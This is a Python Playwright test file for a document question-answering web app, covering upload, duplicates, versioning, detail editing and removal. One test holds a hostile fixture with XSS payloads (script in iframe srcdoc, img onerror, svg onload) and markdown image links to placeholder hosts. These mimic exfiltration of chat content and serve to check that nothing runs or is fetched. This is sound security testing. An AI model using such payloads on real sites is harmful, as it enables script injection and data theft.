"""Uploading, looking at and removing documents in a real browser."""

from pathlib import Path

import pytest
from playwright.sync_api import FilePayload, expect

from tests.pages.running_app import Reader

pytestmark = [pytest.mark.browser, pytest.mark.model, pytest.mark.timeout(600)]

PARKING = b"""# Parking policy

Staff may park in the yard from 6:00 to 22:00. Bicycles are not allowed in the lift.
Visitors park for free for 3 hours.
"""
# Long enough that its progress is drawn, also where the model is warm.
BAYS = "".join(f"\nBay {n} of the yard is kept for van {n * 7}.\n" for n in range(1, 400)).encode()
CANTEEN = b"""# Canteen policy

Lunch in the canteen costs 6 EUR for staff. Guests of the canteen pay double.
The canteen shuts at 15:00 on Fridays.
"""
HOSTILE = b"""Badge policy

Bring <iframe srcdoc='<script>parent.pwned=1</script>'></iframe> a zebra badge to the gate.
The zebra badge <img src=x onerror="alert(1);pwned=1"> costs 7 EUR <svg/onload=alert(2)> a year.
Done ![a](https://pictures.invalid/p?d=chat) with the zebra badge [x](https://links.invalid/r).
Ask $x^2$ :red[now] at https://links.invalid for the zebra badge **today**.
"""

# It stands there for a second or so: who looks for it from outside may come too late.
KEEP_WHAT_IS_UNDERWAY = """
    window.underway = [];
    new MutationObserver(() => {
        for (const box of document.querySelectorAll(".st-key-jobs-underway"))
            window.underway.push(box.innerText);
    }).observe(document.body, {subtree: true, childList: true, characterData: true});
"""


def file(name: str, content: bytes) -> FilePayload:
    return {"name": name, "mimeType": "application/octet-stream", "buffer": content}


def upload(reader: Reader, *files: FilePayload) -> None:
    reader.go("/documents")
    choose(reader, *files)
    reader.page.get_by_role("button", name="Add", exact=True).click()
    expect(reader.page.get_by_test_id("stAlert")).to_have_count(len(files))
    reader.settle()


def choose(reader: Reader, *files: FilePayload) -> None:
    reader.page.locator('input[type="file"]').set_input_files(list(files))
    expect(reader.page.get_by_test_id("stFileChip")).to_have_count(len(files))
    reader.settle()


def choose_row(reader: Reader, title: str) -> None:
    table = reader.page.get_by_test_id("stDataFrame").first
    # The table is painted; what it says to screen readers tells where the row is.
    row = table.locator('[role="row"]').filter(has_text=title)
    row.wait_for(state="attached")
    number = int(row.get_attribute("aria-rowindex") or "")
    table.click(position={"x": 16, "y": 35 * number - 17})
    reader.page.get_by_role("button", name="Remove…").wait_for()


def test_a_policy_is_uploaded_with_progress_listed_asked_about_and_removed(reader: Reader) -> None:
    reader.go("/documents")
    choose(reader, file("parking.md", PARKING + BAYS), file("tool.exe", b"MZ\x90\x00"))
    reader.page.evaluate(KEEP_WHAT_IS_UNDERWAY)
    reader.page.get_by_role("button", name="Add", exact=True).click()
    alerts = reader.page.get_by_test_id("stAlert")
    expect(alerts).to_have_count(2)
    expect(reader.page.get_by_test_id("stAlert").first).to_contain_text("added as")
    outcomes = alerts.all_inner_texts()
    underway = reader.page.evaluate("window.underway.join()")
    choose_row(reader, "Parking policy")
    details = reader.page.locator(".st-key-document-details").inner_text()

    answer = reader.ask("How long may visitors park for free?").inner_text()
    reader.go("/documents")
    choose_row(reader, "Parking policy")
    reader.page.get_by_role("button", name="Remove…").click()
    dialog = reader.page.get_by_role("dialog")
    expect(dialog).to_contain_text("1 delivered answer cites it.")
    dialog.get_by_role("button", name="Remove").click()
    expect(dialog).to_have_count(0)
    after = reader.ask("How long may visitors park for free?").inner_text()

    assert "Adding 2 files" in underway
    assert "added as" in outcomes[0]
    assert "not added" in outcomes[1]
    assert "Parking policy" in details
    assert "Visitors park for free for 3 hours." in answer
    assert "Visitors park for free for 3 hours." not in after


def test_the_same_file_twice_says_of_what_it_is_a_duplicate(reader: Reader) -> None:
    for _ in range(2):
        upload(reader, file("lockers.txt", b"Lockers are emptied every Friday at 17:00."))

    expect(reader.page.get_by_test_id("stAlert")).to_contain_text("already")


def test_hostile_text_runs_nowhere_and_fetches_nothing(reader: Reader, pictures: Path) -> None:
    upload(reader, file("badge ![x](n.png) <img src=x>.txt", HOSTILE))
    choose_row(reader, "adge")
    reader.page.screenshot(path=pictures / "hostile-document.png")
    tags = reader.page.locator('iframe[srcdoc], svg[onload], img[src="x"], img[src*="invalid"]')
    in_documents = tags.count()

    answer = reader.ask("What about the zebra badge ![q](https://questions.invalid/q.png)?")
    reader.page.screenshot(path=pictures / "hostile-answer.png")
    in_answer = tags.count()
    answer.locator(".sentence").first.click()
    reader.page.get_by_role("dialog").locator("mark").first.wait_for()
    in_evidence = tags.count()
    links = reader.page.locator('a[href*="invalid"]').count()

    assert "zebra badge" in answer.inner_text()
    assert (in_documents, in_answer, in_evidence, links) == (0, 0, 0, 0)
    assert reader.page.evaluate("window.pwned") is None


def test_a_new_version_shows_what_changed_and_one_can_go_back_by_keyboard(
    reader: Reader, pictures: Path
) -> None:
    page = reader.page
    upload(reader, file("canteen.md", CANTEEN))
    reader.ask("What does lunch in the canteen cost for staff?")
    reader.go("/documents")
    choose(reader, file("canteen-2.md", CANTEEN.replace(b"6 EUR", b"7 EUR")))
    page.get_by_role("combobox", name="This is").click()
    page.get_by_role("option", name="a new version of Canteen policy").click()
    reader.settle()
    page.get_by_role("button", name="Add", exact=True).click()
    expect(page.get_by_test_id("stAlert")).to_contain_text("version 2")
    reader.settle()

    choose_row(reader, "Canteen policy")
    reader.settle()
    details = page.locator(".st-key-document-details")
    changes = details.locator("ul.changes").first
    expect(changes.locator("ins")).to_have_text("7")
    changed = changes.locator("del, ins").all_inner_texts()
    details.get_by_text("Stale answers (1)").click()
    expect(details.get_by_text("What does lunch in the canteen")).to_be_visible()
    changes.focus()
    page.screenshot(path=pictures / "changes.png")
    focused = reader.focused()
    page.set_viewport_size({"width": 390, "height": 844})
    reader.settle()
    changes.scroll_into_view_if_needed()
    box = changes.bounding_box()
    sideways = reader.scrolls_sideways()
    page.get_by_role("button", name="Go back to version 1…").press("Enter")
    page.get_by_role("dialog").get_by_role("button", name="Go back to version 1").press("Enter")
    expect(page.get_by_role("dialog")).to_have_count(0)
    answer = reader.ask("What does lunch in the canteen cost for staff?").inner_text()

    assert changed == ["6", "7"]
    assert focused == "changes"
    assert not sideways
    assert box is not None
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= 390
    assert "costs 6 EUR" in answer


def test_details_are_corrected_in_a_form_that_says_what_is_wrong(reader: Reader) -> None:
    page = reader.page
    upload(reader, file("umbrellas.txt", b"An umbrella is lent for 9 days at the front desk."))
    choose_row(reader, "umbrellas.txt")
    page.get_by_role("button", name="Edit details…").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Title").fill("Umbrella rules")
    dialog.get_by_role("textbox", name="Source address").fill("nowhere")
    dialog.get_by_role("button", name="Save").click()
    expect(dialog).to_contain_text("is no web address")
    dialog.get_by_role("textbox", name="Source address").fill("https://intranet.example/umbrellas")
    dialog.get_by_role("button", name="Save").click()
    expect(dialog).to_have_count(0)
    reader.settle()

    details = page.locator(".st-key-document-details")

    expect(details).to_contain_text("https://intranet.example/umbrellas")
    expect(details).to_contain_text("Umbrella rules")
    assert page.locator('a[href*="intranet"]').count() == 0
